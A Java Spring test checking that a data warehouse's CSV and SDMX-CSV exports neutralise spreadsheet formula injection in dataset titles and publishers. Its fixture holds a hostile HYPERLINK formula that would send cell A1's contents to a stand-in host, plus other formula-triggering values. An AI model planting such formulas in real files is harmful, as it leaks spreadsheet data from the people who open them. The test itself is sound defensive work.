package kz.agyn.warehouse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;

import kz.agyn.AgynTest;
import kz.agyn.reference.Names;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.servlet.MockMvc;

/**
 * A dataset's title and publisher are typed by whoever registered it; issue 14 found that only the registry's
 * worklist export defused a text a spreadsheet would run as a formula. Every CSV export now does.
 */
class ExportFormulaTest extends AgynTest {

    @Autowired
    MockMvc mvc;

    @Autowired
    Warehouse warehouse;

    @Autowired
    ImportService imports;

    @Test
    void aFormulaInAPublisherIsWrittenAsText() throws Exception {
        String evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
        warehouse.createDataset("test-formula", new Names("+SUM(1,2)", "@A1", "-2+3"), evil, null, null,
                "@licence", false);
        ImportReport r = imports.upload("test-formula", "f.csv", new ByteArrayInputStream(
                        "indicator,period,region,value\nEMIGRANTS,2019,000000000,10\n".getBytes(StandardCharsets.UTF_8)),
                "csv", null, "formula-analyst", Locale.ENGLISH);
        imports.accept(r.id(), "formula-analyst", Locale.ENGLISH);
        String query = "?indicator=EMIGRANTS&by=PERIOD&from=2019&to=2019&dataset=test-formula&lang=en";
        for (String format : new String[] {"csv", "sdmx-csv"}) {
            String csv = mvc.perform(get("/warehouse/export/" + format + query)
                            .with(user("formula-analyst").roles("ANALYST")))
                    .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
            assertThat(csv).as(format).contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\"")
                    .contains(",'@licence,").doesNotContain(",=HYPERLINK").doesNotContain(",@licence");
            if (format.equals("csv")) {
                assertThat(csv).contains(",'-2+3,");
            }
        }
    }
}
